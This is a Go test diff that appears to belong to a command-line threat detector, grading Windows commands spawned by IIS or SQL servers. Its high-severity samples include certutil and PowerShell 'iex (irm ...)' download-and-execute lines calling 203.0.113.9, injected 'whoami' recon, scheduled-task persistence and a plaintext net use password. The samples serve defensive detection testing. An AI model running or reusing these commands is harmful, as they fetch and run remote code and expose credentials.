@@ -346,3 +346,32 @@ level: critical
 		t.Errorf("%s: %v", first[0].Level, first[0].LevelReasons)
 	}
 }
+
+// TestLikeHabits: what has the shape of a habit of applications and something else
+// on the line is none.
+func TestLikeHabits(t *testing.T) {
+	high, medium := rules.LevelHigh, rules.LevelMedium
+	checkLevels(t, []levelCase{
+		{splunkShell, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "npm ci && npm run build"`}, medium},
+		{splunkShell, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "npm ci && x.exe"`}, high},
+		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && git fetch && certutil -urlcache -f http://203.0.113.9/a a"`}, high},
+		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && php -r phpinfo();"`}, high},
+		{splunkShell, "iis", []string{`cmd.exe /c "cd /d D:\www && git fetch & whoami"`}, high},
+		{"learn.microsoft.com, schtasks run", "iis", []string{`cmd.exe /c schtasks /run /tn Import`}, medium},
+		{sigmaRecon, "iis", []string{`cmd.exe /c schtasks /run /tn Import & whoami`}, high},
+		{"SigmaHQ proc_creation_win_schtasks_creation", "iis", []string{`cmd.exe /c schtasks /create /tn x /tr D:\x.exe /sc minute`}, high},
+		{"learn.microsoft.com, net use", "iis", []string{`cmd.exe /c net use X: \\fs1\scan`}, medium},
+		{"SigmaHQ proc_creation_win_net_use_mount_admin_share", "iis", []string{`cmd.exe /c net use X: \\fs1\C$`}, high},
+		{"SigmaHQ proc_creation_win_net_use_password_plaintext", "iis", []string{`cmd.exe /c net use X: \\fs1\scan /user:CORP\adm P@ss`}, high},
+		{"learn.microsoft.com, approved verbs", "iis", []string{`powershell.exe -NoProfile -Command "Get-VM | ConvertTo-Json"`}, medium},
+		{hafnium, "iis", []string{`powershell.exe -NoProfile -Command "Get-VM | ForEach-Object { iex $_ }"`}, high},
+		{hafnium, "iis", []string{`powershell.exe -Command "Get-ADUser -Filter *"`}, high},
+		{"learn.microsoft.com, Restart-WebAppPool", "iis", []string{`powershell -Command "Import-Module WebAdministration; Restart-WebAppPool Shop"`}, medium},
+		{hafnium, "iis", []string{`powershell -Command "Import-Module WebAdministration; Restart-WebAppPool Shop; iex (irm http://203.0.113.9)"`}, high},
+		{"imagemagick.org, escapes", "iis", []string{`cmd.exe /s /c "magick identify -format "%wx%h" D:\up\1.jpg 2>&1"`}, rules.LevelLow},
+		{"imagemagick.org, escapes", "iis", []string{`cmd.exe /s /c "magick %temp%\a.png & %temp%\x.exe"`}, high},
+		{"svnbook.red-bean.com", "iis", []string{`C:\Windows\system32\cmd.exe /c svn log --xml -r HEAD:1 file:///D:/repos/shop`}, medium},
+		{"learn.microsoft.com, forfiles", "mssql", []string{`cmd.exe /c forfiles /p "D:\Backup" /m *.bak /d -7 /c "cmd /c del @path"`}, rules.LevelLow},
+		{lolbas, "mssql", []string{`cmd.exe /c forfiles /p "D:\Backup" /m *.bak /c "cmd /c D:\x.exe @path"`}, high},
+	})
+}
